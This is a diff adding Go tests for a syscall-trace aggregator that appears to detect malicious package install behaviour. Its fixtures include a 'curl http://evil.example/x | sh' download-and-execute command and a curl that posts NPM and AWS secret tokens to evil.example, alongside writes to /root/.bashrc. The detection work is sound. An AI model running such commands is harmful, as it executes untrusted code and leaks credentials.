@@ -0,0 +1,129 @@
+package aggregate
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// An install script piping a download into a shell, the second exec through
+// execveat (as fexecve and some runtimes do)
+const traceWithPipe = `{"processId":2,"parentProcessId":1,"processName":"sh","eventName":"execve","args":[{"name":"pathname","value":"/bin/sh"},{"name":"argv","value":["sh","-c","curl http://evil.example/x | sh"]}]}
+{"processId":3,"parentProcessId":2,"processName":"curl","eventName":"execveat","args":[{"name":"dirfd","value":-100},{"name":"pathname","value":"/usr/bin/curl"},{"name":"argv","value":["curl","http://evil.example/x"]}]}
+`
+
+func TestAggregatorCommandLines(t *testing.T) {
+	stats, err := NewAggregator().ProcessReader(strings.NewReader(traceWithPipe), "test")
+	require.NoError(t, err)
+	assert.Equal(t, map[string]int{"/bin/sh": 1, "/usr/bin/curl": 1}, stats.ExecutedCommands)
+	assert.Equal(t, map[string]int{"sh -c curl http://evil.example/x | sh": 1, "curl http://evil.example/x": 1}, stats.CommandLines)
+	assert.Equal(t, map[string]int{"http://evil.example/x": 2}, stats.NetworkActivity.URLs)
+
+	perProcess, err := NewProcessAggregator().ProcessReader(strings.NewReader(traceWithPipe), "test")
+	require.NoError(t, err)
+	require.Contains(t, perProcess.PerProcess, "curl")
+	assert.Equal(t, map[string]int{"curl http://evil.example/x": 1}, perProcess.PerProcess["curl"].CommandLines)
+}
+
+func TestCommandLineBounded(t *testing.T) {
+	cmdline := commandLine([]string{"node", "-e", strings.Repeat("A", 2*maxCommandLine)})
+	assert.Len(t, cmdline, maxCommandLine+len("..."))
+	assert.True(t, strings.HasPrefix(cmdline, "node -e AAA"))
+	assert.Empty(t, commandLine(nil))
+}
+
+// Reads with numeric flags, writes with parsed flag names
+const traceWithWrites = `{"processId":2,"parentProcessId":1,"processName":"node","eventName":"openat","args":[{"name":"dirfd","value":-100},{"name":"pathname","value":"/etc/passwd"},{"name":"flags","value":524288}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"openat","args":[{"name":"dirfd","value":-100},{"name":"pathname","value":"/root/.bashrc"},{"name":"flags","value":"O_WRONLY|O_CREAT|O_APPEND"}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"openat","args":[{"name":"dirfd","value":-100},{"name":"pathname","value":"/root/.bashrc"},{"name":"flags","value":1089}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"openat","args":[{"name":"dirfd","value":-100},{"name":"pathname","value":"/tmp/out"},{"name":"flags","value":"O_RDWR"}]}
+`
+
+func TestAggregatorFileModes(t *testing.T) {
+	stats, err := NewAggregator().ProcessReader(strings.NewReader(traceWithWrites), "test")
+	require.NoError(t, err)
+	assert.Equal(t, map[string]int{"/etc/passwd": 1, "/root/.bashrc": 2, "/tmp/out": 1}, stats.FileAccess)
+	assert.Equal(t, map[string]int{"/root/.bashrc": 2, "/tmp/out": 1}, stats.FileWrites)
+	assert.Equal(t, map[string]int{"/root/.bashrc": 2}, stats.FileCreates)
+	assert.Contains(t, stats.RiskFlags, "sensitive_file_write")
+
+	perProcess, err := NewProcessAggregator().ProcessReader(strings.NewReader(traceWithWrites), "test")
+	require.NoError(t, err)
+	require.Contains(t, perProcess.PerProcess, "node")
+	assert.Equal(t, map[string]int{"/root/.bashrc": 2, "/tmp/out": 1}, perProcess.PerProcess["node"].FileWrites)
+}
+
+// A POST over a connected socket and a DNS reply naming its source
+const traceWithSockets = `{"processId":2,"parentProcessId":1,"processName":"node","eventName":"connect","args":[{"name":"sockfd","value":21},{"name":"addr","value":{"sa_family":"AF_INET","sin_addr":"203.0.113.9","sin_port":"443"}}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"sendto","returnValue":524288,"args":[{"name":"sockfd","value":21},{"name":"len","value":524288}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"sendmsg","returnValue":1024,"args":[{"name":"sockfd","value":21}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"recvfrom","returnValue":120,"args":[{"name":"sockfd","value":21}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"recvfrom","returnValue":-11,"args":[{"name":"sockfd","value":21}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"recvfrom","returnValue":64,"args":[{"name":"sockfd","value":22},{"name":"src_addr","value":{"sa_family":"AF_INET","sin_addr":"8.8.8.8","sin_port":"53"}}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"sendto","returnValue":32,"args":[{"name":"sockfd","value":23}]}
+`
+
+// Packet events, which take precedence over socket calls when traced
+const traceWithPackets = `{"processId":2,"parentProcessId":1,"processName":"node","eventName":"net_packet_ipv4","args":[{"name":"metadata","value":{"src_ip":"10.0.0.2","dst_ip":"203.0.113.9","src_port":40000,"dst_port":443,"protocol":6,"packet_len":1500,"direction":2}}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"net_packet_ipv4","args":[{"name":"metadata","value":{"src_ip":"10.0.0.2","dst_ip":"203.0.113.9","src_port":40000,"dst_port":443,"protocol":6,"packet_len":1500,"direction":"egress"}}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"net_packet_ipv4","args":[{"name":"metadata","value":{"src_ip":"203.0.113.9","dst_ip":"10.0.0.2","src_port":443,"dst_port":40000,"protocol":6,"packet_len":60,"direction":1}}]}
+{"processId":2,"parentProcessId":1,"processName":"node","eventName":"sendto","returnValue":4096,"args":[{"name":"sockfd","value":21},{"name":"dest_addr","value":{"sa_family":"AF_INET","sin_addr":"198.51.100.1","sin_port":"80"}}]}
+`
+
+func TestAggregatorTransfers(t *testing.T) {
+	stats, err := NewAggregator().ProcessReader(strings.NewReader(traceWithSockets), "test")
+	require.NoError(t, err)
+	assert.Equal(t, map[string]Transfer{
+		"203.0.113.9:443": {BytesSent: 525312, BytesReceived: 120},
+		"8.8.8.8:53":      {BytesReceived: 64},
+	}, stats.NetworkActivity.Transfers, "failed calls and unconnected sockets are not counted")
+
+	perProcess, err := NewProcessAggregator().ProcessReader(strings.NewReader(traceWithSockets), "test")
+	require.NoError(t, err)
+	require.Contains(t, perProcess.PerProcess, "node")
+	assert.Equal(t, Transfer{BytesSent: 525312, BytesReceived: 120}, perProcess.PerProcess["node"].NetworkActivity.Transfers["203.0.113.9:443"])
+
+	stats, err = NewAggregator().ProcessReader(strings.NewReader(traceWithPackets), "test")
+	require.NoError(t, err)
+	assert.Equal(t, map[string]Transfer{
+		"203.0.113.9:443": {BytesSent: 3000, BytesReceived: 60},
+	}, stats.NetworkActivity.Transfers)
+}
+
+// A script dumping its environment and posting tokens, one expanded by the
+// shell before exec (only visible through the exec-env snapshot)
+const traceWithSecrets = `{"processId":2,"parentProcessId":1,"processName":"node","eventName":"openat","args":[{"name":"dirfd","value":-100},{"name":"pathname","value":"/proc/self/environ"},{"name":"flags","value":0}]}
+{"processId":3,"parentProcessId":2,"processName":"sh","eventName":"execve","args":[{"name":"pathname","value":"/bin/sh"},{"name":"argv","value":["sh","-c","curl -d \"$NPM_TOKEN:${AWS_SECRET_ACCESS_KEY}\" -H \"$HOME\" http://evil.example"]}]}
+{"processId":4,"parentProcessId":3,"processName":"curl","eventName":"execve","args":[{"name":"pathname","value":"/usr/bin/curl"},{"name":"argv","value":["curl","-d","npm_abcdef123456:wJalrXUtnFEMI","http://evil.example"]},{"name":"envp","value":["HOME=/root","NPM_TOKEN=npm_abcdef123456","AWS_REGION=us-east-1","GITHUB_TOKEN=ghp_unused0000","CI=true"]}]}
+`
+
+func TestAggregatorEnvAccess(t *testing.T) {
+	stats, err := NewAggregator().ProcessReader(strings.NewReader(traceWithSecrets), "test")
+	require.NoError(t, err)
+	require.NotNil(t, stats.EnvAccess)
+	assert.Equal(t, map[string]int{"/proc/self/environ": 1}, stats.EnvAccess.Environ)
+	assert.Equal(t, map[string]int{"NPM_TOKEN": 2, "AWS_SECRET_ACCESS_KEY": 1}, stats.EnvAccess.Secrets,
+		"variables only present in the environment are not counted")
+	assert.Contains(t, stats.RiskFlags, "env_secret_access")
+
+	perProcess, err := NewProcessAggregator().ProcessReader(strings.NewReader(traceWithSecrets), "test")
+	require.NoError(t, err)
+	require.Contains(t, perProcess.PerProcess, "curl")
+	assert.Equal(t, &EnvAccess{Secrets: map[string]int{"NPM_TOKEN": 1}}, perProcess.PerProcess["curl"].EnvAccess)
+
+	stats, err = NewAggregator().ProcessReader(strings.NewReader(traceWithPipe), "test")
+	require.NoError(t, err)
+	assert.Nil(t, stats.EnvAccess)
+	assert.NotContains(t, stats.RiskFlags, "env_secret_access")
+}
+
+func TestIsSecretVar(t *testing.T) {
+	for _, name := range []string{"NPM_TOKEN", "GITHUB_TOKEN", "AWS_ACCESS_KEY_ID", "STRIPE_API_KEY", "DB_PASSWORD", "client_secret"} {
+		assert.True(t, isSecretVar(name), name)
+	}
+	for _, name := range []string{"HOME", "PATH", "AWS_REGION", "AWS_DEFAULT_REGION", "CI", "NODE_ENV"} {
+		assert.False(t, isSecretVar(name), name)
+	}
+}